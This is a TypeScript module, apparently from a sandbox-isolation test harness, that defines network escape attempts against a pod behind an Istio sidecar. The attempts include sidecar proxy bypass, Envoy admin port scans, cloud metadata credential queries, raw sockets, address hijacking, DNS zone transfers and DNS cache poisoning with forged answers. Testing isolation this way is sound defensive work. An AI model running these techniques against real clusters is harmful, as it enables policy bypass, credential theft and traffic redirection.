/**
 * Attacks on the network: around the sidecar, to this machine, to its neighbours, to names that lead there. Only this
 * machine's own addresses are ever dialled from its own network; ranges for documentation (RFC 5737) stand for the rest.
 */
import { createSocket } from 'node:dgram'
import { createServer } from 'node:net'
import { networkInterfaces } from 'node:os'
import { anyOf, refused, skipped, succeeded, type Attack, type Outcome } from './attack.ts'
import { askTcp, askUdp, forgedAnswer, meshNameserver, TYPE } from './dns.ts'
import type { Facts } from './facts.ts'
import { httpText, judged, talk } from './talk.ts'
import { byCommand, byPython } from './tools.ts'

const NO_SERVER = 'there is no name server of the mesh to ask'
/** RFC 5737: nobody is there. */
const NOWHERE = ['198.51.100.1', '203.0.113.1']
/** Envoy's and Istio's own ports, and the usual ones. */
const PROXY_PORTS = [80, 443, 8080, 9090, 9901, 15000, 15001, 15004, 15006, 15010, 15012, 15020, 15021, 15053, 15090]

function hostAt(facts: Facts, host: string, port: number, what = ''): () => Promise<Outcome> {
  const first = httpText({ host: 'localhost', path: '/' })
  return async () => judged(await talk({ host, port }, { first }), facts.host.secret, what)
}

function hostLoopback(facts: Facts): Promise<Outcome> {
  const { loopbackPort } = facts.host
  const names = ['127.0.0.1', '127.1.2.3', '0.0.0.0', '::1', '::ffff:127.0.0.1', '::', 'localhost', '169.254.1.1']
  return anyOf(names.map((name) => hostAt(facts, name, loopbackPort)))
}

function hostAddress(facts: Facts): Promise<Outcome> {
  const { address, ports } = facts.host
  if (address === undefined) return Promise.resolve(skipped('this machine has no address but loopback'))
  return anyOf(ports.map((port) => hostAt(facts, address, port)))
}

/** The sidecar's HTTP port as a way to this machine. */
function hostThroughSidecar(facts: Facts): Promise<Outcome> {
  const { allowed, own, host } = facts
  const targets = [`127.0.0.1:${host.loopbackPort}`, ...host.ports.map((port) => `${host.address}:${port}`)]
  const doors = [
    { host: allowed.name, port: allowed.port },
    ...(own.httpProxyPort === undefined ? [] : [{ host: '127.0.0.1', port: own.httpProxyPort }]),
  ]
  return anyOf(
    doors.flatMap((door) =>
      targets.flatMap((target) =>
        [
          httpText({ host: target, path: `http://${target}/` }),
          `CONNECT ${target} HTTP/1.1\r\nhost: ${target}\r\n\r\n${httpText({ host: target, path: '/' })}`,
          httpText({ host: target, path: '/' }),
        ].map((first) => async () => judged(await talk(door, { first }), host.secret)),
      ),
    ),
  )
}

/** Its cable's other end is the sidecar's network: what listens there beside what is meant to? */
function sidecarPorts({ userDb }: Facts): Promise<Outcome> {
  const server = meshNameserver()
  if (server === undefined) return Promise.resolve(refused('there is no other end'))
  const first = httpText({ host: 'localhost', path: '/config_dump' })
  return anyOf(
    [server, userDb.address].flatMap((host) =>
      PROXY_PORTS.map((port) => async () => {
        const answer = await talk({ host, port }, { first })
        return / 200 /.test(answer.text.split('\r\n')[0] ?? '')
          ? succeeded(`port ${port} answered`)
          : judged(answer, 'configs')
      }),
    ),
  )
}

function linkLocal(facts: Facts): Promise<Outcome> {
  const device = Object.entries(networkInterfaces()).find(([, list]) =>
    list?.some(({ address }) => address.startsWith('fe80')),
  )
  const ports = [...facts.host.ports, facts.host.loopbackPort, facts.userDb.appPort]
  if (device === undefined) return Promise.resolve(refused('no link-local address'))
  const mesh = meshNameserver()
  // a neighbour of this machine is not for an attack to dial
  if (mesh === undefined) return Promise.resolve(skipped("would reach this machine's neighbours"))
  return anyOf(ports.flatMap((port) => [`fe80::1%${device[0]}`, mesh].map((host) => hostAt(facts, host, port))))
}

/** Where clouds keep credentials. */
async function metadata(): Promise<Outcome> {
  if (meshNameserver() === undefined) return skipped("would reach this machine's own")
  const first = httpText({ host: '169.254.169.254', path: '/latest/meta-data/' })
  const answer = await talk({ host: '169.254.169.254', port: 80 }, { first })
  return / 200 /.test(answer.text.split('\r\n')[0] ?? '') ? succeeded('it answered') : judged(answer, '\0')
}

/** An interface that is not the pod's own cable is a way around the sidecar. */
function internet({ userDb }: Facts): Promise<Outcome> {
  const own = /^(127\.|::1$|10\.244\.|fd00:10:244:|fe80:)/
  const others = Object.values(networkInterfaces())
    .flatMap((list) => list ?? [])
    .filter(({ address }) => !own.test(address))
  return anyOf([
    () =>
      others.length > 0
        ? succeeded(`an interface of this machine: ${others[0]?.address}`)
        : refused('one cable, to the sidecar'),
    ...NOWHERE.map(
      (host) => async () => judged(await talk({ host, port: 81 }, { first: httpText({ host }) }), userDb.service),
    ),
  ])
}

/** UDP is nobody's to proxy: does it get out? */
function udp({ host }: Facts): Promise<Outcome> {
  const { address, loopbackPort } = host
  return anyOf(
    ['127.0.0.1', ...(address === undefined ? [] : [address])].map(
      (target) => () =>
        new Promise<Outcome>((done) => {
          const socket = createSocket('udp4')
          const end = (outcome: Outcome): void => {
            clearTimeout(timer)
            socket.close()
            done(outcome)
          }
          const timer = setTimeout(() => end(refused('no answer')), 500)
          socket.on('error', (error: NodeJS.ErrnoException) => end(refused(error.code ?? error.message)))
          socket.on('message', (message) =>
            end(message.toString().includes(host.secret) ? succeeded('it answered') : refused('another answered')),
          )
          socket.connect(loopbackPort, target, () => socket.send('?'))
        }),
    ),
  )
}

function rawSockets(): Promise<Outcome> {
  const open = (family: string, kind: string, protocol: string): (() => Outcome) => {
    return () => byPython(['import socket', `socket.socket(socket.${family}, socket.${kind}, ${protocol})`])
  }
  return anyOf([
    open('AF_PACKET', 'SOCK_RAW', 'socket.htons(3)'),
    open('AF_INET', 'SOCK_RAW', '1'),
    open('AF_INET', 'SOCK_RAW', '255'),
  ])
}

/** Settings that change nothing, and need the same right as those that do. */
function changeNetwork({ userDb }: Facts): Promise<Outcome> {
  return anyOf([
    () => byCommand('ip', ['link', 'set', 'lo', 'up']),
    ...(meshNameserver() === undefined
      ? []
      : [() => byCommand('ip', ['address', 'add', `${userDb.address}/32`, 'dev', 'lo'])]),
  ])
}

/** Whoever listens at user-db's address gets what is meant for it. */
function takeAddress({ userDb, mode }: Facts): Promise<Outcome> {
  const hosts = [...userDb.virtual, ...(mode === 'ns' ? [userDb.address, '169.254.1.1'] : [])]
  return anyOf(
    hosts.map(
      (host) => () =>
        new Promise<Outcome>((done) => {
          const server = createServer()
          server.once('error', (error: NodeJS.ErrnoException) => done(refused(error.code ?? error.message)))
          server.listen(userDb.port, host, () => server.close(() => done(succeeded(`listened at ${host}`))))
        }),
    ),
  )
}

/** Names of this machine, of other domains, of the mesh's insides: do they lead where nothing else does? */
async function dnsNames(facts: Facts): Promise<Outcome> {
  const server = meshNameserver()
  if (server === undefined) return refused(NO_SERVER)
  const { host, userDb } = facts
  const names = [
    host.hostName,
    'localhost',
    'host.docker.internal',
    `${userDb.pod}.default.pod.cluster.local`,
    `${userDb.service}.default.svc.cluster.local.`,
    `${userDb.service}.kube-system.svc.cluster.local`,
    `${userDb.service}.default.svc.example.com`,
    `127-0-0-1.default.pod.cluster.local`,
    'istio-ingressgateway.istio-system.svc.cluster.local',
  ]
  return anyOf(
    names.map((name) => async () => {
      const { addresses, code } = await askUdp(server, name, TYPE.A)
      if (addresses.length === 0) return refused(`code ${code}`)
      return anyOf(
        addresses.flatMap((address) => [
          ...[...host.ports, host.loopbackPort].map((port) => hostAt(facts, address, port)),
          async () =>
            judged(
              await talk({ host: address, port: userDb.port }, { first: httpText({ host: userDb.service }) }),
              facts.secret,
            ),
        ]),
      )
    }),
  )
}

async function zoneTransfer(): Promise<Outcome> {
  const server = meshNameserver()
  if (server === undefined) return refused(NO_SERVER)
  const zones = ['cluster.local', 'default.svc.cluster.local', 'svc.cluster.local', '.']
  return anyOf(
    zones.flatMap((zone) =>
      [TYPE.AXFR, TYPE.ANY].map((type) => async () => {
        const { answers, code } = await askTcp(server, zone, type)
        return answers > 0 ? succeeded(`${answers} records of ${zone}`) : refused(`code ${code}`)
      }),
    ),
  )
}

/** Answers sent to the name server as if it had asked; the next question shows whether one was believed. */
async function poisoning({ userDb, host }: Facts): Promise<Outcome> {
  const server = meshNameserver()
  if (server === undefined) return refused(NO_SERVER)
  const lie = '198.51.100.66'
  const names = [`${userDb.service}.default.svc.cluster.local`, host.hostName, 'example.invalid']
  const socket = createSocket('udp4')
  for (let id = 0; id < 300; id++) for (const name of names) socket.send(forgedAnswer(name, lie, id), 53, server)
  const outcome = await anyOf(
    names.map((name) => async () => {
      const { addresses, code } = await askUdp(server, name, TYPE.A)
      return addresses.includes(lie)
        ? succeeded(`${name} is believed to be ${lie}`)
        : refused(`code ${code}, not believed`)
    }),
  )
  socket.close()
  return outcome
}

export const NETWORK: readonly Attack[] = [
  { name: 'host-loopback', tries: "this machine's 127.0.0.1", env: false, run: hostLoopback },
  { name: 'host-address', tries: "this machine's own address", env: false, run: hostAddress },
  { name: 'host-through-sidecar', tries: 'the same, asked of the sidecar', env: false, run: hostThroughSidecar },
  { name: 'sidecar-ports', tries: "ports of the sidecar's network", env: true, run: sidecarPorts },
  { name: 'link-local', tries: 'fe80::1 and 169.254.1.1, others ports', env: false, run: linkLocal },
  { name: 'metadata', tries: '169.254.169.254', env: false, run: metadata },
  { name: 'internet', tries: 'out, around the sidecar', env: false, run: internet },
  { name: 'udp', tries: 'UDP to this machine', env: false, run: udp },
  { name: 'raw-sockets', tries: 'AF_PACKET, ICMP, raw IP', env: false, run: rawSockets },
  { name: 'change-network', tries: 'addresses and routes with ip', env: false, run: changeNetwork },
  { name: 'take-its-address', tries: "listen at user-db's addresses", env: true, run: takeAddress },
  { name: 'dns-names', tries: 'foreign and internal names, then dialled', env: true, run: dnsNames },
  { name: 'dns-zone-transfer', tries: 'AXFR and ANY of the zones', env: true, run: zoneTransfer },
  { name: 'dns-poisoning', tries: 'answers nobody asked for', env: true, run: poisoning },
]
